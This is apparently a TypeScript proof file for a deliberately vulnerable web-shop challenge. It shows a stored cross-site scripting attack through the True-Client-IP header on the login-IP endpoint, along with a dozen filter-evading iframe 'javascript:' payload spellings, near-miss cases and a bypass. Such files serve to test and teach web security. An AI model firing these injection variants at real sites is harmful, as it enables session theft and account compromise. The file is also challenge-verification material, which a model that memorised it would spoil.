import { type Attack, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const PAYLOAD = '<iframe src="javascript:alert(`xss`)">'

/** Sends the page's logout request. @param headers in addition to those of a browser */
const signOut =
  (headers: Readonly<Record<string, string>>): Attack =>
  async (attacker) => {
    await attacker.becomeCustomer()
    await attacker.get('/rest/saveLoginIp', { headers })
  }
const claim = (address: string) => signOut({ 'true-client-ip': address })

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    await claim(PAYLOAD)(attacker)
    await attacker.get('/rest/user/whoami')
  },
  spellings: {
    'the header in capitals': signOut({ 'True-Client-IP': PAYLOAD }),
    'behind an address': claim(`203.0.113.7 ${PAYLOAD}`),
    'before an address': claim(`${PAYLOAD}203.0.113.7`),
    'in capitals and other quotes': claim("<IFRAME SRC='JavaScript:alert(`xss`)'>"),
    'without quotes': claim('<iframe src=javascript:alert(`xss`)>'),
    'with a slash for a blank': claim('<iframe/src="javascript:alert(`xss`)">'),
    'with an end of its own': claim(`${PAYLOAD}</iframe>`),
    'with further attributes': claim('<iframe width="0" height="0" src="javascript:alert(`xss`)" loading="eager">'),
    'with a letter as an entity': claim('<iframe src="&#106;avascript:alert(`xss`)">'),
    'with a tab in the scheme, as an entity': claim('<iframe src="java&Tab;script:alert(`xss`)">'),
    'through a proxy, which names more addresses': signOut({
      'x-forwarded-for': '198.51.100.2',
      'x-real-ip': '198.51.100.2',
      'true-client-ip': PAYLOAD,
    }),
    'after an honest sign-out': async (attacker) => {
      await signOut({})(attacker)
      await attacker.get('/rest/saveLoginIp', { headers: { 'true-client-ip': PAYLOAD } })
    },
  },
  nearMisses: {
    'signing out as the page does': signOut({}),
    'an address in the header': claim('203.0.113.7'),
    'the header of other proxies': signOut({
      'x-forwarded-for': PAYLOAD,
      'x-real-ip': PAYLOAD,
      forwarded: `for=${PAYLOAD}`,
    }),
    'the payload as the name of a browser': signOut({ 'user-agent': PAYLOAD, referer: PAYLOAD }),
    'the payload already escaped': claim('&lt;iframe src="javascript:alert(`xss`)"&gt;'),
    'the payload inside of a comment': claim(`<!-- ${PAYLOAD} -->`),
    'the payload as the title of a word': claim(`<b title='${PAYLOAD}'>home</b>`),
    'a frame that may run no scripts': claim('<iframe sandbox src="javascript:alert(`xss`)">'),
    'another script': claim('<img src=x onerror="alert(`hello`)">'),
    'the payload behind more than an address may be long': claim(`${'1'.repeat(490)}${PAYLOAD}`),
    'the payload without a session': (attacker) =>
      attacker.get('/rest/saveLoginIp', { headers: { 'true-client-ip': PAYLOAD } }),
    'the header at another call': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.get('/rest/user/whoami', { headers: { 'true-client-ip': PAYLOAD } })
    },
  },
  bypasses: { 'look-at-the-beginning': claim(`203.0.113.7${PAYLOAD}`) },
})
